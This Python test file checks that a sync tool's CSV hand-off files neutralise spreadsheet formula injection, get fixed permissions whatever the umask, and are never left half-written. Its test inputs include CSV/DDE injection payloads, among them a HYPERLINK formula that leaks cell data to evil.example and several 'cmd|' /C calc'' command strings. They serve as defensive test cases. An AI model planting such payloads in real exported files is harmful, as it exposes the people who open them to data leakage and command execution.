"""Files for people: read back as a spreadsheet program would (the csv module), no cell starts a formula;
created 0640 whatever the umask; written whole or not at all."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.factories import make_request
from tribe_sync.domain.requests import DeliveryDetails
from tribe_sync.jobs.handoff import HEADER, DirectoryOutbox, handoff_row
from tribe_sync.peoplefiles import FILE_MODE, FOLDER_MODE, csv_text, neutralise, write_private_file

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+31 6 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1;=2+2",  # the delimiter inside a cell must not start a new, unneutralised cell
    'a"b\n=c',
]


def write_handoff_file(directory: Path, name: str, rows: list[dict[str, str]]) -> Path:
    """As the executor writes a hand-off: staged, then published."""
    outbox = DirectoryOutbox(directory)
    outbox.stage(name, rows)
    outbox.publish(name)
    return directory / name


def read_back(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


@pytest.fixture
def umask_000() -> Iterator[None]:
    """The loosest umask a service could run with: the modes must not depend on it."""
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


def test_every_cell_that_could_start_a_formula_is_read_back_as_text(tmp_path: Path) -> None:
    rows = [{"a": text, "b": "gewoon"} for text in HOSTILE]
    path = write_private_file(tmp_path / "x.csv", csv_text(["a", "b"], rows))
    cells = [cell for row in read_back(path)[1:] for cell in row]
    assert cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [row[0] for row in read_back(path)[1:]] == ["'" + text for text in HOSTILE[:-1]] + [HOSTILE[-1]]


def test_a_hand_off_file_with_a_formula_as_reference_is_neutralised(tmp_path: Path) -> None:
    request = make_request(
        reference='=HYPERLINK("http://evil.example","klik")',
        delivery=DeliveryDetails("@SUM(1+1)*cmd|' /C calc'!A0", "1", "1012 AB", "-Amsterdam", "=J", "", ""),
    )
    path = write_handoff_file(tmp_path / "outbox", "h.csv", [handoff_row(request)])
    header, row = read_back(path)
    assert header == list(HEADER)
    record = dict(zip(header, row, strict=True))
    assert record["referentie"] == "'" + '=HYPERLINK("http://evil.example","klik")'
    assert record["afleveradres"] == "'@SUM(1+1)*cmd|' /C calc'!A0 1"
    assert record["plaats"] == "'-Amsterdam"
    assert record["contactpersoon"] == "'=J"
    assert record["ordernummer"] == str(request.number)


def test_plain_text_and_our_own_numbers_pass_unchanged() -> None:
    assert [neutralise(v) for v in ("Amsterdam", "1012 AB", "", None, 12, -3, "a=b")] == [
        "Amsterdam",
        "1012 AB",
        "",
        "",
        "12",
        "-3",
        "a=b",
    ]


def test_files_and_their_new_folder_get_explicit_modes_whatever_the_umask(
    tmp_path: Path, umask_000: None
) -> None:
    path = write_handoff_file(tmp_path / "outbox", "h.csv", [handoff_row(make_request())])
    assert stat.S_IMODE(path.stat().st_mode) == FILE_MODE == 0o640
    assert stat.S_IMODE(path.parent.stat().st_mode) == FOLDER_MODE == 0o750


def test_a_file_is_private_even_under_a_strict_umask_that_would_hide_it_from_the_group(
    tmp_path: Path,
) -> None:
    old = os.umask(0o077)
    try:
        path = write_private_file(tmp_path / "x.csv", "a\r\n")
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == FILE_MODE


def test_no_partial_file_is_left_when_the_folder_cannot_be_written(tmp_path: Path) -> None:
    folder = tmp_path / "outbox"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        if os.access(folder, os.W_OK):
            pytest.skip("running as root: permissions are not enforced")
        with pytest.raises(PermissionError):
            write_private_file(folder / "x.csv", "a\r\n")
        assert list(folder.iterdir()) == []
    finally:
        folder.chmod(0o700)
